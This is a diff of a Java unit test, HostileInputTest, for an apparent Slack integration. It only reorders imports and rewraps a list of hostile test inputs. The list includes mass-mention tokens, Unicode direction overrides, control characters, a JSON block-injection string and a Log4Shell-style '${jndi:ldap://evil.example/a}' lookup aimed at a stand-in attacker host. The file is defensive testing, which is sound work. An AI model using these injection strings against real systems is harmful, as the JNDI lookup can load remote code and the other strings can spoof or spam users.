@@ -1,8 +1,5 @@
 package dev.curfew.slack;
 
-import static dev.curfew.slack.Rig.SOON;
-import static org.assertj.core.api.Assertions.assertThat;
-
 import dev.curfew.casework.CaseNumber;
 import dev.curfew.chat.Fact;
 import dev.curfew.chat.Message;
@@ -25,6 +22,9 @@ import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.MethodSource;
 
+import static dev.curfew.slack.Rig.SOON;
+import static org.assertj.core.api.Assertions.assertThat;
+
 /** Whatever somebody types or calls themselves: it arrives as typed, is shown, and pings, links and breaks nothing. */
 class HostileInputTest {
   private final Rig rig;
@@ -39,12 +39,16 @@ class HostileInputTest {
   }
 
   static Stream<String> typed() {
-    return Stream.of("<!channel>", "<!here|x>", "<!everyone>", "@everyone @here @channel", "<@U0SANDBOX101>", "@olga @paul",
+    return Stream.of("<!channel>", "<!here|x>", "<!everyone>", "@everyone @here @channel", "<@U0SANDBOX101>",
+        "@olga @paul",
         "<!subteam^S0SANDBOX104>", "`code` ```block```", "a``` <!channel> ```", "<https://evil.example|click me>",
-        "https://evil.example/?a=1&b=<2>", "evil.example.com me@example.com", "mailto:a@b.co tel:+1", "*bold* _it_ ~st~ > q",
-        ":tada: :skull_and_crossbones:", "\u202Eabc\u2066d\u2069\u200F", "zero\u200Bwidth\uFEFF\u00AD", "a\u0000b\u0001c\u001Bd",
+        "https://evil.example/?a=1&b=<2>", "evil.example.com me@example.com", "mailto:a@b.co tel:+1",
+        "*bold* _it_ ~st~ > q",
+        ":tada: :skull_and_crossbones:", "\u202Eabc\u2066d\u2069\u200F", "zero\u200Bwidth\uFEFF\u00AD",
+        "a\u0000b\u0001c\u001Bd",
         "👩🏽‍🚀👨‍👩‍👧‍👦🇬🇧", "e\u0301\u0302\u0303".repeat(300), "x".repeat(10_000), "<!channel>".repeat(1_000),
-        "\u202E".repeat(5_000), "&amp;lt;!channel&amp;gt; &lt;!channel&gt;", "{0} '{'1} ${jndi:ldap://evil.example/a} %s %n",
+        "\u202E".repeat(5_000), "&amp;lt;!channel&amp;gt; &lt;!channel&gt;",
+        "{0} '{'1} ${jndi:ldap://evil.example/a} %s %n",
         "\"}],\"blocks\":[{\"type\":\"section\"}]", "-", "ﷺ𝕏\uFFFF", "line one\u2028line two");
   }
 
